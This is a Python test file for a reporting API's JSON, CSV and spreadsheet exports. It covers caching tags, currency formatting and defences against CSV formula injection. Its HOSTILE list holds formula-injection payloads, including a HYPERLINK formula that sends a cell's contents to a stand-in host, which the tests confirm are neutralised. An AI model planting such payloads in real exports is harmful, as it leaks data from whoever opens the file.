"""The forms that reports come in: JSON, CSV and spreadsheets, and the tag that says whether anything changed."""

import csv
import io
import tracemalloc
from datetime import date, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from entrypoints.http.kernel.long_answers import Written
from entrypoints.http.reporting.tables import Table, as_csv, write_workbook
from tests.contracts.things import new_id
from tests.http.api import Api, Session
from tests.http.conftest import OpenApi

TEA = {"name": "Tea", "price": 0.1, "quantity": 3}
FORMULA = {"name": "=1+1", "price": 4, "quantity": 1}
REPORTS = ["/api/reports/products", "/api/reports/sales"]
BY_PRODUCT = ["/api/reports/products?sort_by=name", "/api/reports/sales?group_by=product"]
FORMS = ["json", "csv", "xlsx"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = ['=HYPERLINK("http://x.example/"&A1,"Soup")', "+1", "-1+1", "@SUM(A1)", "\uff1d1", "Tea;=1+1", "Tea; +1"]


@pytest.fixture
def api(lasting_api: Api) -> Api:
    """Return an API where much has happened."""
    return lasting_api


def csv_rows(session: Session, path: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(session.get(path, Accept="text/csv").text, newline="")))


def sheet_of(content: bytes) -> Worksheet:
    return load_workbook(io.BytesIO(content)).worksheets[0]


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("path", REPORTS)
def test_a_report_has_a_tag_until_an_order_in_its_range_changes_it(waiter: Session, path: str, form: str) -> None:
    day = waiter.order(TEA)["created_at"][:10]
    ranges = [f"{path}?format={form}{dates}" for dates in ("", f"&start_date={day}", f"&end_date={day}")]
    past = f"{path}?format={form}&end_date=2020-01-01"
    tags = {each: waiter.get(each).headers["ETag"] for each in (*ranges, past)}

    for each, tag in tags.items():
        again = waiter.get(each, **{"If-None-Match": tag})
        assert (again.status_code, again.content, again.headers["ETag"]) == (304, b"", tag)
        assert again.headers["Cache-Control"] == "private, no-cache"
        assert {"Accept", "Authorization"} <= set(again.headers["Vary"].split(", "))

    _ = waiter.order({**TEA, "quantity": 1})
    for each in ranges:
        changed = waiter.get(each, **{"If-None-Match": tags[each]})
        assert (changed.status_code, changed.headers["ETag"] != tags[each]) == (200, True)
    assert waiter.get(past, **{"If-None-Match": tags[past]}).status_code == 304


@pytest.mark.parametrize("path", REPORTS)
def test_no_two_answers_have_one_tag(api: Api, waiter: Session, manager: Session, path: str) -> None:
    _ = waiter.order(TEA, FORMULA)
    _ = api.waiter().order(TEA, FORMULA)
    more = ["end_date=2020-01-01", *(f"format={form}" for form in FORMS)]
    more += ["limit=1", "sort_by=name"] if "products" in path else ["group_by=product", "group_by=weekday"]
    answers = [(who, f"{path}?{query}") for who in (waiter, manager) for query in more]

    tags = [who.get(each).headers["ETag"] for who, each in answers if "2020" not in each]
    assert len(set(tags)) == len(tags)


@pytest.mark.parametrize("path", REPORTS)
def test_the_same_report_is_the_same_file_to_the_byte(waiter: Session, path: str) -> None:
    _ = waiter.order(TEA, FORMULA)
    for form in FORMS:
        one, other = (waiter.get(f"{path}?format={form}") for _ in range(2))
        assert (one.headers["ETag"], one.content) == (other.headers["ETag"], other.content)


@pytest.mark.parametrize("path", REPORTS)
def test_a_report_comes_as_csv(waiter: Session, path: str) -> None:
    _ = waiter.order(FORMULA)
    asked = waiter.get(f"{path}?format=csv", Accept="application/json")
    preferred = waiter.get(path, Accept="text/csv, application/json;q=0.5")

    assert asked.headers["Content-Type"] == preferred.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert asked.headers["Content-Disposition"].startswith("attachment; filename=")
    assert asked.text == preferred.text
    assert asked.text.splitlines()[1].endswith(("" if "products" in path else ",1,4.00,1") + ",4.00,0.00,0.00,4.00")


@pytest.mark.parametrize("path", REPORTS)
def test_a_report_comes_as_a_spreadsheet_whose_amounts_are_numbers_and_names_text(waiter: Session, path: str) -> None:
    _ = waiter.order(FORMULA, TEA)
    answer = waiter.get(f"{path}?format=xlsx" + ("&group_by=product" if "sales" in path else ""))
    assert answer.headers["Content-Type"] == XLSX
    assert waiter.get(path, Accept=XLSX).headers["Content-Type"] == XLSX

    sheet = sheet_of(answer.content)
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    formula = next(row for row in sheet.iter_rows() if any(cell.value == "=1+1" for cell in row))
    assert len(rows) == 3
    assert {cell.data_type for cell in formula if cell.value == "=1+1"} == {"s"}
    assert all(any(amount in row for row in rows) for amount in (4, 0.3))
    assert all(cell.number_format == "#,##0.00" for cell in formula if cell.value == 4)


@pytest.mark.parametrize("path", BY_PRODUCT)
def test_no_spreadsheet_takes_a_name_in_a_csv_for_a_formula(waiter: Session, path: str) -> None:
    _ = waiter.order(*({**TEA, "name": name} for name in (*HOSTILE, "Tea")))
    text = waiter.get(path, Accept="text/csv").text
    harmless = {"Tea", "Tea;'=1+1", "Tea; '+1", *(f"'{name}" for name in HOSTILE[:5])}

    assert harmless <= {cell for row in csv_rows(waiter, path) for cell in row}
    for separator in (",", ";"):  # where commas are decimal points, spreadsheets part cells at semicolons
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
        assert not [cell for cell in cells if cell.strip().startswith(("=", "+", "-", "@", "\uff1d"))]


@pytest.mark.parametrize("path", BY_PRODUCT)
def test_a_spreadsheet_has_every_name_as_it_is(waiter: Session, path: str) -> None:
    names = {*HOSTILE, "https://x.example", "mailto:x@x.example", "007", "Soup <&>", "Tea \U0001f375"}
    _ = waiter.order(*({**TEA, "name": name} for name in names))

    cells = [cell for row in sheet_of(waiter.get(f"{path}&format=xlsx").content).iter_rows() for cell in row]
    assert names <= {str(cell.value) for cell in cells}
    assert {cell.data_type for cell in cells if cell.value in names} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]


def test_a_name_that_xml_cannot_say_leaves_the_spreadsheet_whole(waiter: Session) -> None:
    _ = waiter.order({**TEA, "name": "Soup \ufffe \uffff"})

    assert sheet_of(waiter.get(f"{BY_PRODUCT[0]}&format=xlsx").content).max_row == 2


@pytest.mark.parametrize(
    ("currency", "price", "shown", "number_format"),
    [("JPY", 450, "1350", "#,##0"), ("USD", 0.5, "1.50", "#,##0.00"), ("KWD", 0.125, "0.375", "#,##0.000")],
)
def test_amounts_have_the_decimals_of_the_currency(
    open_api: OpenApi, currency: str, price: float, shown: str, number_format: str
) -> None:
    waiter = open_api(restaurant_currency=currency).waiter()
    _ = waiter.order({"name": "Tea", "price": price, "quantity": 3})

    nothing_off = [f"{0:.{len(number_format.partition('.')[2])}f}"] * 2
    assert csv_rows(waiter, BY_PRODUCT[0])[1:] == [["Tea", "3", shown, *nothing_off, shown]]
    assert csv_rows(waiter, BY_PRODUCT[1])[1][1:] == ["Tea", "3", shown, "1", shown, *nothing_off, shown]
    for path in BY_PRODUCT:
        _, row = sheet_of(waiter.get(f"{path}&format=xlsx").content).iter_rows()
        amounts = [cell for cell in row if cell.number_format == number_format]
        sold = [price * 3] * (1 if "products" in path else 2)
        assert [cell.value for cell in amounts] == [*sold, 0, 0, price * 3]


def test_the_range_before_is_in_every_form(waiter: Session) -> None:
    day = date.fromisoformat(waiter.order(TEA)["created_at"][:10])
    before, after = day - timedelta(days=1), day + timedelta(days=1)
    path = f"/api/reports/sales?start_date={after}&end_date={after}&compare=previous"
    header, row = csv_rows(waiter, path)
    previous = waiter.get(path).json()["report"]["previous"]

    assert [header[-2:], row[-2:], row[2:5]] == [["start_date", "end_date"], [str(day)] * 2, ["3", "0.30", "1"]]
    assert [group["group"] for group in previous["groups"]] == [str(day)]
    assert sheet_of(waiter.get(f"{path}&format=xlsx").content).max_row == 2
    both = csv_rows(waiter, f"/api/reports/sales?start_date={before}&end_date={day}&compare=previous")
    assert [row[-2:] for row in both[1:]] == [[str(before), str(day)]]


@pytest.mark.parametrize("path", BY_PRODUCT)
def test_a_csv_comes_as_the_spreadsheet_wants_it(waiter: Session, path: str) -> None:
    _ = waiter.order(TEA, {**TEA, "name": "Soup; or salad"})
    plain = waiter.get(f"{path}&format=csv")
    for query, separator in (("separator=;", ";"), ("separator=%3B", ";"), ("separator=tab", "\t"), ("", ",")):
        answer = waiter.get(f"{path}&format=csv&bom=1&{query}")
        assert answer.content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=separator))
        assert rows == list(csv.reader(io.StringIO(plain.text, newline="")))
        assert answer.headers["ETag"] != plain.headers["ETag"]
    assert not plain.content.startswith(b"\xef")
    assert waiter.get(f"{path}&format=csv&bom=0").content == plain.content


def test_what_did_not_sell_is_in_the_report_that_asks_for_it(manager: Session, waiter: Session) -> None:
    name = f"Unsold {new_id()}"
    assert manager.post("/api/products", {"name": name, "price": 3}).status_code == 201
    assert waiter.sold(f"product={name}") == []
    assert waiter.sold(f"product={name}&unsold=true") == [(name, 0, 0)]
    assert waiter.get(f"/api/reports/products?product={name}&unsold=1&format=csv").text.endswith(
        f"{name},0{',0.00' * 4}\r\n"
    )


async def test_a_long_table_takes_no_more_memory_than_a_short_one() -> None:
    rows = [(f"Product {number}", number, Decimal(number) / 100) for number in range(8_000)]
    table = Table("sold", ("name", "quantity", "revenue"), rows, 2)
    for form, most in (("csv", 400_000), ("xlsx", 1_500_000)):
        written = Written()
        tracemalloc.start()
        if form == "csv":
            await written.write(as_csv(table))
        else:
            await write_workbook(table, written.file)
        size = written.size
        sizes = [len(piece) for piece in written.pieces()]
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert len(sizes) > 2
        assert (max(sizes), sum(sizes)) == (64 * 1024, size)
        assert peak < most
